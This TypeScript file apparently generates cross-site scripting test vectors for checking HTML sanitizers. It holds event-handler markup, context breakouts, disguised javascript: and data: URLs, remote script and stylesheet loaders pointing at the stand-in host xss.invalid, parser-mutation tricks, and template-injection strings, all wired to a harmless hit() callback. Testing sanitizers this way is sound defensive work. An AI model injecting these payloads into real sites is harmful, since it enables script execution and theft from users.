/**
 * Markup and addresses that run a script or ask the network for something where a text is taken for markup. Each calls
 * `hit()` of the page or asks for something of `xss.invalid`, so that a test sees either.
 */
export function xssVectors(): readonly string[] {
  return [...new Set([...handlers(), ...breakouts(), ...addresses(), ...loaders(), ...parsers(), ...templates()])];
}

const TAGS = ['img', 'svg', 'video', 'audio', 'iframe', 'input', 'details', 'body', 'marquee', 'object', 'x-unknown'];
const HANDLERS: readonly (readonly [string, string])[] = [
  ['onerror', 'src=x'],
  ['onload', ''],
  ['onfocus', 'autofocus tabindex=0'],
  ['ontoggle', 'open'],
  ['onanimationstart', 'style=animation-name:x'],
  ['onbeforematch', 'hidden=until-found'],
];
const QUOTES = ['', '"', "'", '`'];

/** Elements with a handler, in the ways to write an attribute that a parser takes. */
function* handlers(): Generator<string> {
  for (const tag of TAGS) {
    for (const [handler, rest] of HANDLERS) {
      for (const quote of QUOTES) yield `<${tag} ${rest} ${handler}=${quote}hit()${quote}>`;
      yield `<${tag}/${handler}=hit()//${rest}>`;
      yield `<${upperEveryOther(tag)}\n${upperEveryOther(handler)}\t=\fhit() ${rest}>`;
    }
  }
}

/** Out of an attribute, an element's text, a comment or a script, for whoever puts texts into markup. */
function* breakouts(): Generator<string> {
  const ends = [
    '">',
    "'>",
    '`>',
    '-->',
    ']]>',
    '</title>',
    '</textarea>',
    '</style>',
    '</script>',
    '</template>',
    '</noscript>',
    '</select>',
    '*/',
    '\\">',
    '&quot;>',
    '%22%3E',
  ];
  const bodies = [
    '<img src=x onerror=hit()>',
    '<script>hit()</script>',
    '<svg onload=hit()>',
    '<script src=//xss.invalid/a.js></script>',
  ];
  for (const end of ends) for (const body of bodies) yield `${end}${body}`;
  for (const end of ['"', "'", '`'])
    for (const event of ['onfocus', 'onmouseover']) yield `${end} autofocus ${event}=hit() x=${end}`;
  for (const end of ["';", '";', '`;', '\\";', '</script><script>']) yield `${end}hit()//`;
}

/** Addresses that are a script, plain and disguised, by themselves, as links and in the ways that text editors know. */
function* addresses(): Generator<string> {
  const schemes = [
    'javascript:',
    'JaVaScRiPt:',
    'java\tscript:',
    'java\nscript:',
    ' javascript:',
    '\u0001javascript:',
    'javascript&colon;',
    'javascript&#58;',
    '&#106;avascript:',
    '&#x6A;avascript:',
    'vbscript:',
    'data:text/html,<script>',
    'data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==,',
    'blob:',
    'view-source:javascript:',
  ];
  for (const scheme of schemes) {
    const address = `${scheme}hit()`;
    yield address;
    yield `<a href="${address}">more</a>`;
    yield `<iframe src="${address}"></iframe>`;
    yield `<form action="${address}"><button>ok</button></form>`;
    yield `<object data='${address}'></object>`;
    yield `[more](${address})`;
    yield `![more](${address})`;
    yield `<svg><a xlink:href="${address}"><text y=20>more</text></a></svg>`;
  }
}

/** What asks the network for something by being there. */
function* loaders(): Generator<string> {
  const address = 'https://xss.invalid/p';
  for (const scheme of [
    address,
    '//xss.invalid/p',
    '\\\\xss.invalid\\p',
    'ftp://xss.invalid/p',
    'file://xss.invalid/p',
  ]) {
    yield `<img src="${scheme}.png">`;
    yield `<img srcset="${scheme}.png 2x">`;
    yield `<link rel=stylesheet href="${scheme}.css">`;
    yield `<link rel=prefetch href="${scheme}">`;
    yield `<script src="${scheme}.js" async></script>`;
    yield `<style>@import "${scheme}.css";</style>`;
    yield `<p style="background:url(${scheme}.png)">x</p>`;
    yield `<video poster="${scheme}.png"></video>`;
    yield `<meta http-equiv=refresh content="0;url=${scheme}">`;
    yield `<base href="${scheme}/">`;
    yield `<embed src="${scheme}.swf">`;
    yield `<svg><image href="${scheme}.svg"/></svg>`;
    yield `![x](${scheme}.png)`;
  }
}

/** Markup that means one thing when it is cleaned and another when it is read again, and odd characters in names. */
function* parsers(): Generator<string> {
  const inner = '<img src=x onerror=hit()>';
  yield `<math><mtext><table><mglyph><style><!--</style>${inner}`;
  yield `<svg></p><style><a title="</style>${inner}">`;
  yield `<noscript><p title="</noscript>${inner}">`;
  yield `<form><math><mtext></form><form><mglyph><style></math>${inner}`;
  yield `<select><template><${'/select'}>${inner}`;
  yield `<!--<!-->${inner}-->`;
  yield `<![CDATA[${inner}]]>`;
  yield `<?xml version="1.0"?><x xmlns="http://www.w3.org/1999/xhtml"><script>hit()</script></x>`;
  yield '+ADw-script+AD4-hit()+ADw-/script+AD4-';
  yield '＜script＞hit()＜/script＞';
  yield '\u202e<tpircs>)(tih<tpircs/>';
  yield '<scr<script>ipt>hit()</scr</script>ipt>';
  yield '<<script>hit();//<</script>';
  yield '&lt;script&gt;hit()&lt;/script&gt;';
  yield '%3Cscript%3Ehit()%3C/script%3E';
  yield '\\u003cscript\\u003ehit()\\u003c/script\\u003e';
  yield '<script>hit()';
  yield '<script type=module>hit()</script>';
  yield '<svg><script>hit&#40;&#41;</script></svg>';
  yield '<svg><animate attributeName=href values=javascript:hit() /></svg>';
  yield `<div is=x-a><template shadowrootmode=open>${inner}</template></div>`;
}

/** What template engines and editors would run or follow. */
function* templates(): Generator<string> {
  for (const [open, close] of [
    ['{{', '}}'],
    ['${', '}'],
    ['#{', '}'],
    ['<%=', '%>'],
    ['[[', ']]'],
    ['{%', '%}'],
    ['$t(', ')'],
  ]) {
    for (const code of ["constructor.constructor('hit()')()", 'hit()', 'this.hit()', '__proto__.hit', 'name'])
      yield `${open}${code}${close}`;
  }
  yield '{"type":"div","props":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=hit()>"}}}';
  yield '{"root":{"children":[{"type":"link","url":"javascript:hit()"}]}}';
  yield '__proto__[innerHTML]=<img/src/onerror=hit()>';
}

function upperEveryOther(word: string): string {
  return [...word].map((letter, index) => (index % 2 === 0 ? letter.toUpperCase() : letter)).join('');
}
